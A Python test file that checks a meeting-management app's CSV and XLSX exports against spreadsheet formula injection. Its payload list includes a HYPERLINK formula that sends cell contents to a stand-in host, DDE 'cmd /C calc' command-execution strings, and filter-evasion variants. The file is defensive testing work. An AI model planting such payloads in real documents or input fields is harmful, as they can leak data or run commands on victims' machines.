"""H23: what is typed somewhere is a formula in nobody's table program (T36)."""

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest

import packs
from cochair.features.commitments.models import Commitment
from cochair.features.meetings.models import Participant
from cochair.features.records.models import ActionPoint
from house import tree
from matrix import Scene, table

PAYLOADS = (
    '=HYPERLINK("http://a.example/?"&A1;"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\uff1d1+1",
    '=1;"=2',
)
LIVE = re.compile(r"[ \n\xa0\u3000]*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]")
# A number with its sign computes nothing.
NUMBER = re.compile(r"[+-]?[\d.,]+")
# Where tables are written by a program: what stands elsewhere is caught by the test below.
WRITE_TABLES = re.compile(r"csv\.(writer|DictWriter)|\bWorkbook\(")
ROUTES = [route for route in table()[1] if "GET" in route.answers]


def cells(octets: bytes, kind: str) -> Iterator[str]:
    """Every cell of a table that computes, as a table program reads it."""
    if "spreadsheetml" in kind:
        for row in openpyxl.load_workbook(io.BytesIO(octets)).active.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                assert cell.hyperlink is None, cell.value
        return
    said = octets.decode("utf-8-sig")
    yield from (
        cell for row in csv.reader(io.StringIO(said, newline=""), delimiter=";") for cell in row
    )


@pytest.fixture
def planted(at_work: Scene, request: pytest.FixtureRequest) -> Scene:
    """The scene, where whoever could type something typed a formula."""
    formula = request.param
    everywhere = dict.fromkeys(("en", "es", "pt"), formula)
    assert Participant.objects.update(name=formula, title=formula, function=everywhere)
    assert ActionPoint.objects.update(text=everywhere, reason=formula, evidence=formula)
    assert Commitment.objects.update(text=everywhere)
    return at_work


@pytest.mark.parametrize("planted", PAYLOADS, ids=ascii, indirect=True)
def test_no_table_that_anybody_takes_away_computes_what_somebody_typed(planted: Scene) -> None:
    client, found = planted.client("co_presidency"), []
    asked = [planted.path(route) for route in ROUTES if re.search(r"csv|xlsx|table", route.path)]
    asked += [
        path.replace("csv", "xlsx") for path in asked if "/export/" in path or "table." in path
    ]
    for path in asked:
        answer = client.get(path)
        kind = answer.headers.get("Content-Type", "")
        if answer.status_code == 200 and ("csv" in kind or "spreadsheetml" in kind):
            found.append(path)
            live = [cell for cell in cells(packs.read(answer), kind) if LIVE.match(cell)]
            assert [cell for cell in live if not NUMBER.fullmatch(cell.strip())] == [], path

    assert len(found) >= 5, found


def test_every_route_that_gives_a_table_is_among_those_that_are_walked(at_work: Scene) -> None:
    client = at_work.client("co_presidency")
    for route in ROUTES:
        if route.by_program or not route.is_ours or re.search(r"csv|xlsx|table", route.path):
            continue
        kind = client.get(at_work.path(route)).headers.get("Content-Type", "")
        assert "csv" not in kind and "spreadsheetml" not in kind, route.name


def test_no_program_writes_a_table_past_the_guard() -> None:
    writing = {path: text for path, text in tree.python().items() if WRITE_TABLES.search(text)}
    assert len(writing) >= 2
    for path, text in writing.items():
        assert "guarded" in text, Path(path)
